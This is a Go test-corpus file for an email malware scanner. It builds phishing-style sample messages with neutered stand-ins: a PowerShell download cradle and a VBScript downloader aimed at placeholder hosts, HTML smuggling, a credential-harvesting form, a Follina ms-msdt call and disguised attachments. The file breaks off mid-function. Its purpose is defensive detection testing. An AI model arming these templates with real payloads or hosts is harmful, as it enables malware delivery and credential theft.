package corpus

import (
	"encoding/base64"
	"fmt"
	"slices"
	"unicode/utf16"

	"golang.org/x/text/encoding/japanese"

	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/internal/testmail"
	"github.com/kensa-milter/kensa/policy"
)

// Harmless stand-ins that carry the patterns of real payloads.
const (
	jsDropper = "// Kensa corpus stand-in\r\nvar sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"notepad.exe\", 0);\r\n"
	jsXHR     = "// Kensa corpus stand-in\r\nvar x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\nx.open(\"GET\", \"https://updates.example.invalid/check\", false);\r\nx.send();\r\n"
	jsEcho    = "// Kensa corpus stand-in\r\nWScript.Echo(\"kensa corpus\");\r\n"
	vbsDrop   = "' Kensa corpus stand-in\r\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\r\nx.Open \"GET\", \"https://files.example.invalid/a.txt\", False\r\nx.Send\r\n" +
		"Set s = CreateObject(\"ADODB.Stream\")\r\ns.Open\r\ns.Type = 1\r\ns.Write x.ResponseBody\r\ns.SaveToFile \"C:\\Users\\Public\\a.txt\", 2\r\n"
	htaDrop  = "<html><head><script language=\"JScript\">\r\nvar sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"notepad.exe\", 0);\r\nwindow.close();\r\n</script></head></html>\r\n"
	psCradle = "# Kensa corpus stand-in\r\nIEX (New-Object Net.WebClient).DownloadString('https://updates.example.invalid/a.ps1')\r\n"

	vbaAutoOpenShell = "Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n    Dim r\r\n    r = Shell(\"cmd.exe /c echo kensa-corpus\", vbHide)\r\nEnd Sub\r\n"
	vbaAutoOpenCOM   = "Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n    Set d = CreateObject(\"Scripting.Dictionary\")\r\n    d.Add \"k\", \"v\"\r\nEnd Sub\r\n"
	vbaWorkbookOpen  = "Attribute VB_Name = \"ThisWorkbook\"\r\nPrivate Sub Workbook_Open()\r\n    MsgBox \"Welcome to the price list\"\r\nEnd Sub\r\n"
	vbaClickShell    = "Attribute VB_Name = \"Module1\"\r\nSub OpenReport()\r\n    Shell \"notepad.exe C:\\Reports\\q3.txt\", vbNormalFocus\r\nEnd Sub\r\n"
)

// encodedPowerShell is a PowerShell command line with -EncodedCommand, the
// command itself harmless.
func encodedPowerShell() string {
	var b []byte
	for _, u := range utf16.Encode([]rune("Write-Output 'kensa corpus'")) {
		b = append(b, byte(u), byte(u>>8))
	}
	return "powershell.exe -NoP -W Hidden -enc " + base64.StdEncoding.EncodeToString(b)
}

// fakeZipB64 is base64 of n bytes that start like a zip file.
func fakeZipB64(n int) string {
	b := []byte("PK\x03\x04")
	for len(b) < n {
		b = append(b, "kensa corpus harmless stand-in payload "...)
	}
	return base64.StdEncoding.EncodeToString(b[:n])
}

func smugglingBlob() string {
	return "<html><body><p>Loading your invoice...</p><script>\r\nvar b64 = \"" + fakeZipB64(6000) + "\";\r\n" +
		"var bin = atob(b64);\r\nvar bytes = new Uint8Array(bin.length);\r\nfor (var i = 0; i < bin.length; i++) { bytes[i] = bin.charCodeAt(i); }\r\n" +
		"var blob = new Blob([bytes], {type: \"application/zip\"});\r\nvar a = document.createElement(\"a\");\r\n" +
		"a.href = URL.createObjectURL(blob);\r\na.download = \"invoice.zip\";\r\na.click();\r\n</script></body></html>\r\n"
}

func smugglingDataURI() string {
	return "<html><body><p>Your document is ready.</p>\r\n<a href=\"data:application/zip;base64," + fakeZipB64(3000) +
		"\" download=\"statement.zip\">Download statement</a></body></html>\r\n"
}

func pdfWithJS() []byte {
	return formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
		"<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
		formats.PDFFlate("", []byte("app.alert('Kensa corpus stand-in');\nthis.exportDataObject({cName: 'form.txt', nLaunch: 0});\n")),
		"<< /Type /Action /S /JavaScript /JS 3 0 R >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
	)
}

func pdfWithLaunch() []byte {
	return formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
		"<< /Type /Annot /Subtype /Link /Rect [50 700 300 720] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c echo kensa-corpus) >> >> >>",
	)
}

// plainPDF is an ordinary PDF: text, a web link, and an open action that
// fits the page to the window (as many honest PDFs have).
func plainPDF(title string) []byte {
	content := "BT /F1 18 Tf 72 760 Td (" + title + ") Tj ET\nBT /F1 11 Tf 72 730 Td (Kensa corpus: an ordinary document.) Tj ET\n"
	return formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>",
		formats.PDFFlate("", []byte(content)),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"<< /Type /Annot /Subtype /Link /Rect [72 700 300 715] /A << /S /URI /URI (https://www.example.com/reports/q3) >> >>",
	)
}

func iso2022jp(s string) []byte {
	b, err := japanese.ISO2022JP.NewEncoder().String(s)
	if err != nil {
		panic(err)
	}
	return []byte(b)
}

func w(scanner, id, part string) Want { return Want{scanner, id, part} }

func malicious(nested7z, enc7z []byte) []Sample {
	bad := func(name, about string, a policy.Action, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: a, Want: wants}
	}
	invoiceText := text("Dear customer,\n\nplease find the invoice attached.\n\nKind regards,\nAccounts\n")
	eicarZip := zipOf(file{"invoice.com", []byte(testmail.EICAR())})
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }

	// --- Containers ---
	s := bad("zip-eicar", "EICAR test file inside a zip", policy.Reject,
		w("yara", "Kensa_EICAR_Test_File", "2/invoice.zip/invoice.com"),
		w("heuristic", "executable-in-container", "2/invoice.zip/invoice.com"))
	s.RunOnly = true
	add(s, mail{subject: "Invoice 2026-1187", root: multipart("mixed", invoiceText, attach("application/zip", "invoice.zip", eicarZip))})

	add(bad("zip-encrypted-password-english", "ZipCrypto zip whose password is in the body (Emotet style), a JScript dropper inside", policy.Reject,
		w("heuristic", "password-from-body", "2"),
		w("yara", "Kensa_Script_Dropper", "2/invoice.zip/invoice.js"),
		w("heuristic", "executable-in-container", "2/invoice.zip/invoice.js")),
		mail{subject: "Re: outstanding invoice", root: multipart("mixed",
			text("Hello,\n\nas discussed, the invoice is attached.\nThe password is Inv0ice#2024\n\nBest regards\n"),
			attach("application/zip", "invoice.zip", encryptedZip("Inv0ice#2024", false, file{"invoice.js", []byte(jsDropper)})))})

	jaBody := "田中様\n\nいつもお世話になっております。\n請求書を添付いたしますのでご確認ください。\n\n添付ファイルのパスワードは「Seikyu2024」です。\n\nよろしくお願いいたします。\n"
	add(bad("zip-encrypted-password-japanese", "AES-256 zip, password in an ISO-2022-JP body (Japanese Emotet style), a VBScript dropper inside", policy.Reject,
		w("heuristic", "password-from-body", "2"),
		w("yara", "Kensa_Script_Dropper", "2/seikyusho.zip/seikyusho.vbs"),
		w("heuristic", "executable-in-container", "2/seikyusho.zip/seikyusho.vbs")),
		mail{subject: "請求書の送付", jis: true, root: multipart("mixed",
			node{ctype: "text/plain; charset=ISO-2022-JP", cte: "7bit", body: []byte(crlf(string(iso2022jp(jaBody))))},
			attach("application/zip", "seikyusho.zip", encryptedZip("Seikyu2024", true, file{"seikyusho.vbs", []byte(vbsDrop)})))})

	// Archive formats Kensa recognises and does not open: unscannable,
	// never opaque clean bytes (before, both were accepted with score 0).
	add(bad("ace-archive-unopened", "an ACE archive (WinACE) holding a program: Kensa does not open ACE, so it is unscannable", policy.Quarantine,
		w("kensa", "unsupported-container", "2")),
		mail{subject: "Invoice", root: multipart("mixed", text("Please find the invoice attached.\n"),
			attach("application/octet-stream", "invoice.ace", formats.Ace(formats.File{Name: "invoice.exe", Data: fakePE("ace")})))})
	add(bad("named-archive-unknown", "an attachment named .uc2 (UltraCompressor) whose bytes are no format Kensa knows: unscannable", policy.Quarantine,
		w("kensa", "unsupported-container", "2")),
		mail{subject: "Invoice", root: multipart("mixed", text("Please find the invoice attached.\n"),
			attach("application/octet-stream", "invoice.uc2", append([]byte("UC2\x1a"), fakePE("uc2")...)))})

	add(bad("zip-encrypted-no-password", "encrypted zip with no password anywhere: unscannable", policy.Quarantine,
		w("kensa", "encrypted-archive", "2"),
		w("heuristic", "encrypted-archive", "2/files.zip/report.js")),
		mail{subject: "files", root: multipart("mixed", text("Files as requested.\n"),
			attach("application/zip", "files.zip", encryptedZip("unguessable-Pa55", false, file{"report.js", []byte(jsEcho)})))})

	add(bad("7z-nested-zip-macro", "7z holding a zip holding a VBScript macro with AutoOpen and Shell", policy.Reject,
		w("yara", "Kensa_VBA_AutoRun_Exec", "2/archive.7z/inner.zip/macro.vbs"),
		w("heuristic", "executable-in-container", "2/archive.7z/inner.zip/macro.vbs")),
		mail{subject: "archive", root: multipart("mixed", text("The archive you asked for.\n"), attach("application/x-7z-compressed", "archive.7z", nested7z))})

	add(bad("7z-encrypted-password-german", "encrypted 7z whose password is in a German body", policy.Tag,
		w("heuristic", "password-from-body", "2")),
		mail{subject: "Rechnung", root: multipart("mixed", text("Guten Tag,\n\nanbei die Rechnung.\nKennwort: S3cret-7z\n\nMit freundlichen Grüßen\n"),
			attach("application/x-7z-compressed", "rechnung.7z", enc7z))})

	add(bad("tar-gz-powershell-cradle", "tar.gz with a PowerShell download-and-run script", policy.Reject,
		w("yara", "Kensa_PowerShell_Download_Cradle", "2/tools.tar.gz/tools.tar/update.ps1"),
		w("heuristic", "executable-in-container", "2/tools.tar.gz/tools.tar/update.ps1")),
		mail{subject: "tools update", root: multipart("mixed", text("Run the update script from the archive.\n"),
			attach("application/gzip", "tools.tar.gz", gzipOf("tools.tar", tarOf(file{"README.txt", []byte("Run update.ps1\n")}, file{"update.ps1", []byte(psCradle)}))))})

	add(bad("rar5-vbs-dropper", "RAR 5 archive with a VBScript downloader", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/documents.rar/scan_0042.vbs"),
		w("heuristic", "executable-in-container", "2/documents.rar/scan_0042.vbs")),
		mail{subject: "Scanned documents", root: multipart("mixed", text("Scanned documents attached.\n"),
			attach("application/vnd.rar", "documents.rar", formats.RAR5(formats.File{Name: "scan_0042.vbs", Data: []byte(vbsDrop)})))})

	add(bad("iso-shortcut-script", "ISO image with a shortcut running encoded PowerShell and a script", policy.Quarantine,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/invoice.iso/INVOICE.LNK"),
		w("yara", "Kensa_PowerShell_EncodedCommand", "2/invoice.iso/INVOICE.LNK"),
		w("yara", "Kensa_Script_ActiveX", "2/invoice.iso/UPDATE.JS")),
		mail{subject: "Invoice", root: multipart("mixed", invoiceText,
			attach("application/x-iso9660-image", "invoice.iso", isoOf("INVOICE", file{"INVOICE.LNK", fakeLNK(encodedPowerShell())}, file{"UPDATE.JS", []byte(jsXHR)})))})

	add(bad("doc-vba-autoopen-shell", "Word 97 .doc whose VBA runs Shell from AutoOpen", policy.Reject,
		w("yara", "Kensa_VBA_AutoRun_Exec", "2/order.doc/vba/NewMacros"),
		w("heuristic", "vba-autorun-exec", "2/order.doc/vba/NewMacros")),
		mail{subject: "Order confirmation", root: multipart("mixed", text("Please confirm the attached order.\n"),
			attach("application/msword", "order.doc", wordDoc("Order 4711", formats.VBAModule{Name: "NewMacros", Source: vbaAutoOpenShell})))})

	add(bad("docm-autoopen-createobject", ".docm whose macro creates COM objects on open", policy.Quarantine,
		w("yara", "Kensa_VBA_AutoRun_CreateObject", "2/report.docm/word/vbaProject.bin/vba/Module1"),
		w("heuristic", "vba-autorun", "2/report.docm/word/vbaProject.bin/vba/Module1")),
		mail{subject: "Report", root: multipart("mixed", text("The report is attached; enable content to see it.\n"),
			attach("application/vnd.ms-word.document.macroEnabled.12", "report.docm", docx("Quarterly report", "", "", formats.VBAProject(formats.VBAModule{Name: "Module1", Source: vbaAutoOpenCOM}))))})

	add(bad("xlsm-workbook-open", ".xlsm with a Workbook_Open macro", policy.Quarantine,
		w("yara", "Kensa_VBA_AutoRun", "2/prices.xlsm/xl/vbaProject.bin/vba/ThisWorkbook"),
		w("heuristic", "vba-autorun", "2/prices.xlsm/xl/vbaProject.bin/vba/ThisWorkbook")),
		mail{subject: "Price list", root: multipart("mixed", text("New price list attached.\n"),
			attach("application/vnd.ms-excel.sheet.macroEnabled.12", "prices.xlsm", xlsx([][]string{{"Item", "Price"}, {"Widget", "12.50"}}, formats.VBAProject(formats.VBAModule{Name: "ThisWorkbook", Source: vbaWorkbookOpen}))))})

	add(bad("docm-macro-shell-on-click", ".docm with a macro that runs Shell when clicked", policy.Tag,
		w("heuristic", "vba-exec", "2/notes.docm/word/vbaProject.bin/vba/Module1")),
		mail{subject: "Notes", root: multipart("mixed", text("Notes attached; the button opens the report.\n"),
			attach("application/vnd.ms-word.document.macroEnabled.12", "notes.docm", docx("Meeting notes", "", "", formats.VBAProject(formats.VBAModule{Name: "Module1", Source: vbaClickShell}))))})

	add(bad("docx-remote-template", "docx that loads a remote template when opened", policy.Quarantine,
		w("heuristic", "remote-template", "2/contract.docx/word/_rels/settings.xml.rels")),
		mail{subject: "Contract for signature", root: multipart("mixed", text("Please review and sign the contract.\n"),
			attach("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "contract.docx",
				docx("Contract", "", `<Relationship Id="rId1" Type="`+officeRel+`/attachedTemplate" Target="http://templates.example.net/contract.dotm" TargetMode="External"/>`, nil)))})

	add(bad("rtf-package-object", "RTF with an embedded OLE package carrying a JScript dropper", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/statement.rtf/object1.bin/statement.js"),
		w("heuristic", "executable-in-container", "2/statement.rtf/object1.bin/statement.js")),
		mail{subject: "Statement", root: multipart("mixed", text("Your statement is attached.\n"),
			attach("application/rtf", "statement.rtf", rtfWithPackage("Double-click the icon to view the statement.", "statement.js", []byte(jsDropper))))})

	add(bad("pdf-javascript", "PDF that runs JavaScript when opened", policy.Tag,
		w("heuristic", "pdf-javascript", "2"),
		w("heuristic", "pdf-active-content", "2")),
		mail{subject: "Form", root: multipart("mixed", text("Fill in the attached form.\n"), attach("application/pdf", "form.pdf", pdfWithJS()))})

	add(bad("pdf-launch", "PDF with a /Launch action", policy.Quarantine,
		w("heuristic", "pdf-launch", "2")),
		mail{subject: "Delivery note", root: multipart("mixed", text("Delivery note attached.\n"), attach("application/pdf", "delivery.pdf", pdfWithLaunch()))})

	add(bad("onenote-embedded", "OneNote section with an embedded program and an HTA dropper", policy.Reject,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/notes.one/embedded-1"),
		w("yara", "Kensa_Script_Dropper", "2/notes.one/embedded-2")),
		mail{subject: "Shared notes", root: multipart("mixed", text("Double-click to view the shared notes.\n"),
			attach("application/onenote", "notes.one", formats.OneNote("", formats.OneNoteFile{Data: fakePE("onenote")}, formats.OneNoteFile{Data: []byte(htaDrop)})))})

	// The embedded file's EmbeddedFileName is the name OneNote opens it by:
	// a script no signature matches, given away by its name alone.
	add(bad("onenote-named-script", "OneNote section whose embedded file is named invoice.hta: a script only its name shows", policy.Quarantine,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/notes.one/invoice.hta")),
		mail{subject: "Shared notes", root: multipart("mixed", text("Double-click to view the shared notes.\n"),
			attach("application/onenote", "notes.one", formats.OneNote("Double-click the invoice below to open it", formats.OneNoteFile{Name: "invoice.hta", Data: namedScript.data})))})

	// The name, but no file data Kensa finds: the name still counts, and
	// the unread data is unscannable.
	add(bad("onenote-named-unstored", "OneNote section naming an embedded invoice.hta whose data is in no FileDataStoreObject", policy.Quarantine,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/notes.one/invoice.hta")),
		mail{subject: "Shared notes", root: multipart("mixed", text("Double-click to view the shared notes.\n"),
			attach("application/onenote", "notes.one", formats.OneNote("Double-click the invoice below to open it", formats.OneNoteFile{Name: "invoice.hta", Unstored: true})))})

	// The same in the alternative packaging OneDrive hands sections out in
	// (MS-ONESTORE 2.8, unpack/onepack.go): a program in an object data
	// BLOB, which only reading the packaging finds.
	add(bad("onenote-packaged-embedded", "OneNote section in OneDrive's packaging with an embedded program in an object data BLOB", policy.Quarantine,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/notes.one/embedded-1")),
		mail{subject: "Shared notes", root: multipart("mixed", text("Double-click to view the shared notes.\n"),
			attach("application/onenote", "notes.one", formats.OneNotePackaged("", formats.OneNoteFile{Data: fakePE("onenote packaged")})))})

	add(bad("onenote-packaged-named-script", "OneNote section in OneDrive's packaging whose embedded file is named invoice.hta: a script only its name shows", policy.Quarantine,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/notes.one/invoice.hta")),
		mail{subject: "Shared notes", root: multipart("mixed", text("Double-click to view the shared notes.\n"),
			attach("application/onenote", "notes.one", formats.OneNotePackaged("Double-click the invoice below to open it", formats.OneNoteFile{Name: "invoice.hta", Data: namedScript.data})))})

	// Two embedded files, two names: paired in order (see unpack/onenote.go).
	add(bad("onenote-named-script-second", "OneNote section with a PDF and a script named scan.cmd: the script's name comes second", policy.Quarantine,
		w("heuristic", "risky-container", "2"),
		w("heuristic", "executable-in-container", "2/notes.one/scan.cmd")),
		mail{subject: "Shared notes", root: multipart("mixed", text("Double-click to view the shared notes.\n"),
			attach("application/onenote", "notes.one", formats.OneNote("Statement and scan below", formats.OneNoteFile{Name: "statement.pdf", Data: plainPDF("Statement")},
				formats.OneNoteFile{Name: "scan.cmd", Data: []byte("echo Kensa corpus: a script only its name shows\r\n")})))})

	inner := mail{from: "Supplier <billing@supplier.example.net>", to: "orders@shop.example.com", subject: "Invoice",
		id: "inner-1@supplier.example.net", root: multipart("mixed", invoiceText, attach("application/octet-stream", "invoice.js", []byte(jsDropper)))}
	add(bad("eml-attachment-script", "an .eml file attached, carrying a JScript dropper", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/invoice-mail.eml/2"),
		w("heuristic", "executable-in-container", "2/invoice-mail.eml/2")),
		mail{subject: "Fwd: Invoice", root: multipart("mixed", text("See the attached mail.\n"), attach("application/octet-stream", "invoice-mail.eml", inner.bytes()))})

	inner.root = multipart("mixed", invoiceText, attach("application/zip", "invoice.zip", eicarZip))
	s = bad("forwarded-zip-eicar", "a forwarded message (message/rfc822) with a zip holding the EICAR test file", policy.Reject,
		w("yara", "Kensa_EICAR_Test_File", "2/2/invoice.zip/invoice.com"))
	s.RunOnly = true
	add(s, mail{subject: "Fwd: Invoice", root: multipart("mixed", text("Forwarding this.\n"), node{ctype: "message/rfc822", cte: "7bit", body: inner.bytes()})})

	// --- Files and names ---
	add(bad("exe-attachment", "a program attached as setup.exe", policy.Quarantine,
		w("heuristic", "dangerous-executable", "2")),
		mail{subject: "Setup", root: multipart("mixed", text("Install the attached tool.\n"), attach("application/octet-stream", "setup.exe", fakePE("setup")))})

	add(bad("js-attachment", "a JScript file attached", policy.Quarantine,
		w("heuristic", "dangerous-script", "2")),
		mail{subject: "Update", root: multipart("mixed", text("Open the attached update.\n"), attach("application/javascript", "update.js", []byte(jsEcho)))})

	add(bad("lnk-attachment", "a Windows shortcut attached", policy.Quarantine,
		w("heuristic", "dangerous-shortcut", "2")),
		mail{subject: "Shortcut", root: multipart("mixed", text("Use the shortcut to open the share.\n"),
			attach("application/octet-stream", "document.lnk", fakeLNK(`C:\Windows\System32\notepad.exe`)))})

	// The 2024 spear-phishing wave: a signed-looking .rdp file that connects
	// to the sender's server and shares the reader's drives with it.
	add(bad("rdp-attachment", "a Remote Desktop file that connects to the sender's server with the reader's drives shared", policy.Quarantine,
		w("heuristic", "dangerous-shortcut", "2")),
		mail{subject: "Zero Trust access: connect now", root: multipart("mixed", text("Open the attached file to connect to the secure workspace.\n"),
			attach("application/x-rdp", "AWS Secure Access.rdp", []byte("full address:s:rdp.files.example.invalid:3389\r\nredirectdrives:i:1\r\ndrivestoredirect:s:*\r\nredirectclipboard:i:1\r\nremoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||AWS\r\n")))})

	// Outlook shows the files an invitation carries inline as the meeting's
	// attachments.
	add(bad("ics-inline-script", "a meeting request whose calendar carries a JScript file inline (ATTACH;VALUE=BINARY), shown by Outlook as the meeting's attachment", policy.Reject,
		w("yara", "Kensa_Script_Dropper", "2/ics/agenda.js"), w("heuristic", "executable-in-container", "2/ics/agenda.js")),
		mail{subject: "Budget review", root: multipart("alternative", text("Budget review, agenda attached to the meeting.\n"),
			node{ctype: "text/calendar; method=REQUEST; charset=utf-8", cte: "8bit", body: meetingInvite("Budget review", "agenda.js", []byte(jsDropper))})})

	// An encoded word in a charset no client knows: Kensa showed the name as
	// written, Python's email package reads the bytes, invoice.js.
	add(bad("name-unknown-charset", "a script named by an RFC 2047 word in a made-up charset, which some readers decode as its bytes", policy.Quarantine,
		w("heuristic", "dangerous-script", "2")),
		mail{subject: "Invoice", root: multipart("mixed", text("The invoice.\n"),
			node{ctype: "application/octet-stream", disp: `attachment; filename="=?x-invoice?B?aW52b2ljZS5qcw==?="`, cte: "base64", body: []byte("var total = 42; // Kensa corpus: a script that only its name shows\r\n")})})

	add(bad("zip-screensaver", "a program (.scr) inside a zip", policy.Quarantine,
		w("heuristic", "executable-in-container", "2/photos.zip/holiday.scr")),
		mail{subject: "Photos", root: multipart("mixed", text("Holiday photos!\n"), attach("application/zip", "photos.zip", zipOf(file{"holiday.scr", fakePE("screensaver")})))})

	add(bad("exe-named-pdf", "a program named invoice.pdf, declared application/pdf", policy.Reject,
		w("heuristic", "disguised-executable", "2")),
		mail{subject: "Invoice", root: multipart("mixed", invoiceText, attach("application/pdf", "invoice.pdf", fakePE("disguised")))})

	add(bad("zip-named-pdf", "a zip named scan.pdf, with a script inside", policy.Quarantine,
		w("heuristic", "type-mismatch", "2"),
		w("heuristic", "executable-in-container", "2/scan.pdf/scan.js")),
		mail{subject: "Scan", root: multipart("mixed", text("Scan attached.\n"), attach("application/pdf", "scan.pdf", zipOf(file{"scan.js", []byte(jsEcho)})))})

	add(bad("double-extension", "invoice.pdf.exe", policy.Reject,
		w("heuristic", "double-extension", "2")),
		mail{subject: "Invoice", root: multipart("mixed", invoiceText, attach("application/octet-stream", "invoice.pdf.exe", fakePE("double extension")))})

	add(bad("rtlo-filename", "a program whose name uses U+202E to look like a .jpg", policy.Reject,
		w("heuristic", "rtlo-filename", "2")),
		mail{subject: "Photo", root: multipart("mixed", text("The photo.\n"), attach("application/octet-stream", "photo_\u202Egpj.scr", fakePE("rtlo")))})

	add(bad("bidi-filename", "a PDF whose name carries a bidi isolate control", policy.Tag,
		w("heuristic", "bidi-filename", "2")),
		mail{subject: "Report", root: multipart("mixed", text("Report attached.\n"), attach("application/pdf", "report\u2067.pdf", plainPDF("Report")))})

	add(bad("homoglyph-filename", "a PDF whose name mixes Latin and Cyrillic letters", policy.Tag,
		w("heuristic", "homoglyph-filename", "2")),
		mail{subject: "Invoice", root: multipart("mixed", invoiceText, attach("application/pdf", "inv\u043Eice.pdf", plainPDF("Invoice")))})

	// --- HTML ---
	add(bad("html-smuggling-blob", "HTML attachment that assembles a zip in the browser (Blob)", policy.Reject,
		w("yara", "Kensa_HTML_Smuggling_Blob", "2"),
		w("heuristic", "html-smuggling", "2")),
		mail{subject: "Your invoice", root: multipart("mixed", text("Open the attached page to download your invoice.\n"),
			attach("text/html; charset=utf-8", "invoice.html", []byte(smugglingBlob())))})

	add(bad("html-smuggling-data-uri", "HTML attachment with a download link to a data: URL zip", policy.Reject,
		w("yara", "Kensa_HTML_Smuggling_DataURI", "2"),
		w("heuristic", "html-smuggling", "2"),
		w("heuristic", "data-link", "2")),
		mail{subject: "Statement", root: multipart("mixed", text("Open the attached page.\n"),
			attach("text/html; charset=utf-8", "statement.html", []byte(smugglingDataURI())))})

	add(bad("html-credential-form", "HTML attachment with a login form posting elsewhere", policy.Quarantine,
		w("heuristic", "html-credential-form", "2")),
		mail{subject: "Mailbox quota", root: multipart("mixed", text("Your mailbox is full. Log in with the attached page to keep your mail.\n"),
			attach("text/html; charset=utf-8", "login.html", []byte(`<html><body><h2>Mail login</h2><form method="post" action="https://collect.example.net/owa/auth">`+
				`<input type="email" name="u"><input type="password" name="p"><button>Sign in</button></form></body></html>`)))})

	add(bad("html-ms-msdt", "HTML that calls the ms-msdt: protocol handler (Follina)", policy.Reject,
		w("heuristic", "ms-protocol-handler", "2")),
		mail{subject: "Document", root: multipart("mixed", text("Document attached.\n"),
			attach("text/html; charset=utf-8", "doc.html", []byte("<html><script>\r\nwindow.location.href = \"ms-msdt:/id PCWDiagnostic /skip force /param \\\"IT_BrowseForFile=kensa-corpus\\\"\";\r\n</script></html>\r\n")))})

	add(bad("svg-script", "SVG image with script", policy.Tag,
		w("heuristic", "svg-script", "2")),
		mail{subject: "Chart", root: multipart("mixed", text("Chart attached.\n"),
			attach("image/svg+xml", "chart.svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100"/><script>window.location = "https://collect.example.net/";</script></svg>`)))})

	// --- URLs ---
	linkMail := func(subject, htmlBody string) mail {
		return mail{subject: subject, root: multipart("alternative", text("Please view this message in HTML.\n"), html(htmlBody))}
	}
	s = bad("url-blocklisted", "a link to a blocklisted domain", policy.Reject, w("heuristic", "blocklisted-url", "2"))
	s.Needs = "blocklist"
	add(s, linkMail("Your parcel", `<p>Track your parcel <a href="http://malware-drop.example/track?id=42">here</a>.</p>`))

	s = bad("url-dnsbl", "a link to a domain listed in a DNS URI blocklist", policy.Quarantine, w("heuristic", "dnsbl-url", "2"))
	s.Needs = "dnsbl"
	add(s, linkMail("Special offer", `<p>Only today: <a href="https://www.`+DNSBLListed+`/deal">see the offer</a>.</p>`))

	add(bad("url-lookalike-punycode", "a link to a punycode lookalike of paypal.com", policy.Quarantine,
		w("heuristic", "lookalike-domain", "2"), w("heuristic", "mixed-script-domain", "2")),
		linkMail("Account limited", `<p>Your account is limited. <a href="https://www.xn--pypal-4ve.com/signin">Restore access</a></p>`))

	add(bad("url-mixed-script", "a link whose host mixes Latin and Cyrillic", policy.Tag,
		w("heuristic", "mixed-script-domain", "2")),
		linkMail("Order", "<p>Your order: <a href=\"https://shop.ex\u0430mple-store.com/order/42\">view order</a></p>"))

	add(bad("url-userinfo", "a link that shows a bank's name before @ and goes to an IP address", policy.Quarantine,
		w("heuristic", "userinfo-url", "2"), w("heuristic", "ip-url", "2")),
		linkMail("Security check", `<p>Confirm at <a href="https://secure.bank.example@198.51.100.7/login">secure.bank.example</a></p>`))

	add(bad("url-ip-host", "a link to a bare IP address", policy.Tag,
		w("heuristic", "ip-url", "1")),
		mail{subject: "Download", root: text("Download the file from http://203.0.113.45/invoice/download.php?id=7\n")})

	add(bad("url-text-mismatch", "link text shows one domain, the link goes to an IP address", policy.Tag,
		w("heuristic", "link-text-mismatch", "2"), w("heuristic", "ip-url", "2")),
		linkMail("Login", `<p>Log in at <a href="http://203.0.113.9/login">www.example-bank.com</a></p>`))

	add(bad("url-brand-mismatch", "link text shows paypal.com, the link goes elsewhere", policy.Tag,
		w("heuristic", "link-text-brand-mismatch", "2")),
		linkMail("Payment received", `<p>Check the payment at <a href="https://paypal-secure.example.net/verify">www.paypal.com</a></p>`))

	add(bad("url-data-link", "a link to a data: URL", policy.Quarantine,
		w("heuristic", "data-link", "2")),
		linkMail("Voicemail", `<p>New voicemail: <a href="data:text/html;base64,`+base64.StdEncoding.EncodeToString([]byte("<h1>Kensa corpus stand-in</h1>"))+`">play</a></p>`))

	add(bad("url-javascript-link", "a javascript: link", policy.Tag,
		w("heuristic", "javascript-link", "2")),
		linkMail("Document shared", `<p>A document was shared with you: <a href="javascript:void(location='https://collect.example.net/')">open</a></p>`))

	// --- More YARA pack rules on their own ---
	add(bad("bat-encoded-powershell", "a batch file starting PowerShell with an encoded command", policy.Quarantine,
		w("yara", "Kensa_PowerShell_EncodedCommand", "2"), w("heuristic", "dangerous-script", "2")),
		mail{subject: "Fix", root: multipart("mixed", text("Run the fix.\n"), attach("application/octet-stream", "fix.bat", []byte("@echo off\r\n"+encodedPowerShell()+"\r\n")))})

	s = bad("eicar-in-body", "the EICAR test string in the body text", policy.Reject,
		w("yara", "Kensa_EICAR_Test_File", "1"))
	s.RunOnly = true
	add(s, mail{subject: "test", root: text("Anti-virus test:\n" + testmail.EICAR() + "\n")})

	// --- Payloads in pictures: yarascan leaves a JPEG's entropy-coded
	// data out of its scan (yara.images: trimmed), never the bytes after
	// its end, its comments, or a JPEG that is read as something else ---
	s = bad("jpeg-appended-eicar", "the EICAR test file appended after a photo's end (EOI)", policy.Reject,
		w("yara", "Kensa_EICAR_Test_File", "2"))
	s.RunOnly = true
	add(s, mail{subject: "Photos", root: multipart("mixed", text("Photo from the trip.\n"), attach("image/jpeg", "trip.jpg", slices.Concat(photoJPEG, []byte(testmail.EICAR()))))})

	s = bad("jpeg-comment-eicar", "the EICAR test file in a photo's comment segment (COM)", policy.Reject,
		w("yara", "Kensa_EICAR_Test_File", "2"))
	s.RunOnly = true
